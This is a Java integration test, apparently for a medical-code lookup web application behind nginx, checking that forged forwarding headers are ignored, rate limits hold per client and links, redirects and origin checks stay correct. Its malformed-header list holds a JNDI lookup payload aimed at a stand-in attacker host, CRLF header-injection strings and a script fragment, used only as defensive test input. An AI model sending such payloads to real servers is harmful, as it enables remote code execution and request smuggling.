// SPDX-License-Identifier: Apache-2.0
package org.icddesk.it.admin;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Supplier;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.icddesk.reliability.Reliability;
import org.icddesk.sandbox.SandboxOptions;
import org.icddesk.sandbox.fault.Fault;
import org.icddesk.testing.Lane;
import org.icddesk.testing.http.RawHttp;
import org.icddesk.testing.server.People;
import org.icddesk.testing.server.ReverseProxy;
import org.icddesk.testing.server.ReverseProxyKind;
import org.icddesk.testing.server.TestDesk;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;

/** Behind nginx, by {@code reverse-proxy.cli} and the configurations of the guide: who is believed, and about what. */
@Lane(Lane.OWN_SERVERS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class ReverseProxyIT {

    private static final String HOST = "icd.example";
    private static final String ENTITY = "/icd/release/11/2024-01/mms/257068234";
    private static final String FORGED = "203.0.113.9";
    private static final String EVIL = "evil.example";
    private static final int CLIENTS = 200;

    /** So little that a client who asks without end soon has no share left, however slow the machine is. */
    private static final Map<String, String> SETTINGS =
            Map.of("ICD_PROXIES", ReverseProxy.ADDRESS + ", 10.0.0.0/8", "ICD_LIMITS_SEARCHES", "1/s burst 2");

    private static final String FORGERY = String.join(
            "\r\n",
            "X-Forwarded-For: " + FORGED,
            "X-Forwarded-Host: " + EVIL,
            "X-Forwarded-Proto: http",
            "X-Forwarded-Port: 81",
            "X-Forwarded-Prefix: /" + EVIL,
            "Forwarded: for=" + FORGED + ";host=" + EVIL + ";proto=http");

    private static TestDesk desk;
    private static ReverseProxy nginx;

    @BeforeAll
    static void start() {
        ReverseProxy.require(ReverseProxyKind.NGINX);
        desk = TestDesk.configured("reverse-proxy", "reverse-proxy", SandboxOptions.defaults(), SETTINGS);
        People.add(desk.server(), "anna", "icd-admin");
        nginx = ReverseProxy.start(ReverseProxyKind.NGINX, "nginx.conf", desk.server());
    }

    @AfterAll
    static void stop() {
        if (nginx != null) {
            nginx.close();
        }
        if (desk != null) {
            desk.close();
        }
    }

    @Test
    @Order(1)
    void C06_twoHundredClientsBehindOneProxyHaveSharesOfTheirOwn() throws Exception {
        desk.sandbox().misbehave(Fault.token(Fault.Kind.DELAY).withDelay(Duration.ofMillis(100)));
        desk.sandbox().counters().reset();
        // As many at once as may ask WHO at once: what becomes of more is the subject of C01.
        ExecutorService readers = Executors.newFixedThreadPool(12);
        try {
            List<Future<Integer>> answers = new ArrayList<>();
            for (int client = 0; client < CLIENTS; client++) {
                String from = "127.1.0." + (client + 1);
                answers.add(readers.submit(() -> through(from, search(), "").statusCode()));
            }
            for (Future<Integer> answer : answers) {
                assertThat(answer.get()).isEqualTo(200);
            }
        } finally {
            readers.shutdownNow();
            desk.sandbox().behave();
        }
        assertThat(desk.sandbox().counters().tokenRequests()).isLessThanOrEqualTo(1);
        assertThat(statusesUntilRefused(() -> through("127.1.0.1", search(), FORGERY)))
                .as("one of them who asks on")
                .contains(429);
        assertThat(through("127.1.0.250", search(), "").statusCode())
                .as("somebody else")
                .isEqualTo(200);
        Reliability.measured(
                "C06",
                CLIENTS + " clients through nginx, a share of 2 each: 200 × 200; one who asks on: 429; others: 200");
    }

    @Test
    @Order(2)
    void C06_whoIsNoProxyIsNotBelieved() {
        assertThat(addressOf(() -> direct("127.0.0.9", "/status", FORGERY))).isEqualTo("127.0.0.9");
        AtomicInteger number = new AtomicInteger();
        assertThat(statusesUntilRefused(() ->
                        direct("127.0.0.9", search(), "X-Forwarded-For: 10.0.1." + number.incrementAndGet() % 250)))
                .as("a new address with each request is the same client")
                .contains(429);
    }

    @Test
    @Order(3)
    void B26_whatAClientForgesTheProxyOverwrites() {
        assertThat(addressOf(() -> through("127.1.2.3", "/status", FORGERY))).isEqualTo("127.1.2.3");
        for (String path : List.of("/", ENTITY, "/search?q=cholera", "/help", "/api")) {
            HttpResponse<String> answer = through("127.1.2.3", path, FORGERY);

            assertThat(answer.statusCode()).as(path).isEqualTo(200);
            assertThat(answer.body() + answer.headers().map()).as(path).doesNotContain(EVIL, FORGED);
        }
    }

    @Test
    @Order(4)
    void B26_theNearestOfSeveralProxiesCounts() {
        assertThat(addressOf(() -> direct(
                        ReverseProxy.ADDRESS, "/status", "X-Forwarded-For: " + FORGED + ", unknown, 198.51.100.7")))
                .isEqualTo("198.51.100.7");
        assertThat(addressOf(() -> direct(ReverseProxy.ADDRESS, "/status", "X-Forwarded-For: 2001:db8::7")))
                .isEqualTo("2001:db8:0:0:0:0:0:7");
    }

    static Stream<String> malformed() {
        return Stream.of(
                "X-Forwarded-For:",
                "X-Forwarded-For: unknown",
                "X-Forwarded-For: _hidden",
                "X-Forwarded-For: 999.1.1.1",
                "X-Forwarded-For: 01.02.03.04",
                "X-Forwarded-For: 203.0.113.9.evil.example",
                "X-Forwarded-For: 203.0.113.9, <script>",
                "X-Forwarded-For: ,,,",
                "X-Forwarded-For: 1:2",
                "X-Forwarded-For: \"[::1\"",
                "X-Forwarded-For: " + "9".repeat(5_000),
                "X-Forwarded-For: 203.0.113.9\r\nX-Forwarded-For: ${jndi:ldap://evil.example}",
                "Forwarded: for=\"",
                "Forwarded: for=203.0.113.9;host=evil.example;proto",
                "Forwarded: ;;=,for=[::",
                "X-Forwarded-Proto: javascript",
                "X-Forwarded-Host: evil.example/..\\",
                "X-Forwarded-Host: [::1\r\nX-Forwarded-Port: -1",
                "X-Forwarded-Host: evil.example:99999999999999");
    }

    @Test
    @Order(5)
    void B26_whatIsMalformedIsDroppedEvenFromAProxy() {
        HttpResponse<String> usual = direct(ReverseProxy.ADDRESS, "/help", "");
        assertThat(malformed()).allSatisfy(header -> {
            HttpResponse<String> answer = direct(ReverseProxy.ADDRESS, "/help", header);

            assertThat(answer.statusCode()).isEqualTo(200);
            assertThat(answer.body()).isEqualTo(usual.body());
            assertThat(addressOf(() -> direct(ReverseProxy.ADDRESS, "/status", header)))
                    .isEqualTo(ReverseProxy.ADDRESS);
            assertThat(direct("127.0.0.11", "/help", header).body()).isEqualTo(usual.body());
        });
    }

    @Test
    @Order(6)
    void onAHostOfItsOwnLinksRedirectsAndActionsAreRight() {
        theSiteIsRightAt("/icd-desk");
        HttpResponse<String> top =
                RawHttp.send(nginx.url("/"), nginx.trust(), "127.1.2.4", "GET / HTTP/1.1\r\nHost: " + HOST, "");
        assertThat(top.headers().firstValue("Location"))
                .hasValueSatisfying(address -> assertThat(address).endsWith("/icd-desk/"));
        assertThat(through("127.1.2.4", "/help", "").headers().firstValue("Strict-Transport-Security"))
                .contains("max-age=31536000");
    }

    @Test
    @Order(7)
    void underAnotherPathTheyAreToo() {
        nginx.close();
        desk.restart(Map.of("ICD_PATH", "/tools/icd"));
        nginx = ReverseProxy.start(ReverseProxyKind.NGINX, "nginx-path.conf", desk.server());

        theSiteIsRightAt("/tools/icd");
        assertThat(addressOf(() -> through("127.1.2.5", "/status", FORGERY))).isEqualTo("127.1.2.5");
    }

    @Test
    @Order(8)
    void theStatusPageShowsTheProxiesAndSaysWhenNearlyAllRequestsComeFromOneAddress() {
        Document page = Jsoup.parse(signedIn("/status").body());
        assertThat(page.select("#settings").text())
                .contains("icd.proxies", ReverseProxy.ADDRESS, "10.0.0.0/8")
                .doesNotContain("Invalid");
        assertThat(page.select("#clients").text())
                .contains("Requests of the last minutes", "Most of them from 127.1.2.");

        await().pollInSameThread().untilAsserted(() -> {
            IntStream.range(0, 400).forEach(i -> desk.get("/status"));
            assertThat(Jsoup.parse(signedIn("/status").body())
                            .select("#clients")
                            .text())
                    .contains("Nearly all from one address 127.0.0.1", "ICD_PROXIES", "reverse-proxy.cli");
        });
    }

    private static void theSiteIsRightAt(String path) {
        for (String page : List.of("/", ENTITY, "/search?q=cholera", "/help", "/api")) {
            HttpResponse<String> answer = through("127.1.2.4", page, "");

            assertThat(answer.statusCode()).as(page).isEqualTo(200);
            assertThat(Jsoup.parse(answer.body()).select("[href^=/], [src^=/], [action^=/]").stream()
                            .map(element -> element.attr("href") + element.attr("src") + element.attr("action")))
                    .as(page)
                    .isNotEmpty()
                    .allMatch(link -> link.startsWith(path + "/"));
        }
        assertThat(through("127.1.2.4", "/api/suggest?q=choler", "").body()).contains('"' + path + "/");
        assertThat(through("127.1.2.4", "/api/opensearch/description.xml", "").body())
                .as("N34")
                .contains("\"https://" + HOST + path + "/search?q={searchTerms}\"");
        assertThat(through("127.1.2.4", ENTITY.replace("mms", "MMS"), "")
                        .headers()
                        .firstValue("Location"))
                .contains(path + ENTITY);
        String proof = Jsoup.parse(signedIn("/status/renew").body())
                .select("[name=proof]")
                .val();
        assertThat(confirmed(proof, "https://" + HOST).headers().firstValue("Location"))
                .contains(path + "/status?done=renew");
        assertThat(confirmed(proof, "https://" + EVIL).statusCode()).isEqualTo(403);
    }

    private static HttpResponse<String> confirmed(String proof, String origin) {
        String head = String.join(
                "\r\n",
                "POST " + desk.server().contextPath() + "/status/renew HTTP/1.1",
                "Host: " + HOST,
                "Origin: " + origin,
                "Authorization: " + People.authorization("anna"),
                "Content-Type: application/x-www-form-urlencoded");
        return RawHttp.send(nginx.url("/"), nginx.trust(), "127.1.2.4", head, "proof=" + proof);
    }

    private static HttpResponse<String> signedIn(String path) {
        return through("127.1.2.4", path, "Authorization: " + People.authorization("anna"));
    }

    private static HttpResponse<String> through(String from, String path, String headers) {
        return RawHttp.send(nginx.url("/"), nginx.trust(), from, head(path, headers), "");
    }

    private static HttpResponse<String> direct(String from, String path, String headers) {
        return RawHttp.send(desk.server().url("/"), nginx.trust(), from, head(path, headers), "");
    }

    private static String head(String path, String headers) {
        String line = "GET " + desk.server().contextPath() + path + " HTTP/1.1\r\nHost: " + HOST;
        return headers.isEmpty() ? line : line + "\r\n" + headers;
    }

    private static String search() {
        return "/search?q=w" + UUID.randomUUID().toString().substring(0, 8);
    }

    /** {@return the statuses of requests, one after the other, up to the first that is refused} */
    private static List<Integer> statusesUntilRefused(Supplier<HttpResponse<String>> request) {
        List<Integer> statuses = new ArrayList<>();
        while (statuses.size() < 300 && !statuses.contains(429)) {
            statuses.add(request.get().statusCode());
        }
        return statuses;
    }

    /** {@return the client's address, as the audit log has it, of a request for a page that asks for sign-in} */
    private static String addressOf(Supplier<HttpResponse<String>> request) {
        int before = refusals().size();
        assertThat(request.get().statusCode()).isEqualTo(401);
        await().until(() -> refusals().size() > before);
        String line = refusals().get(before);
        return line.substring(line.indexOf("from ") + 5, line.length() - 1);
    }

    private static List<String> refusals() {
        try (Stream<String> lines = Files.lines(desk.server().setup().base().resolve("log/icd-desk-audit.log"))) {
            return lines.filter(line -> line.contains("ICDDESK-A002")).toList();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
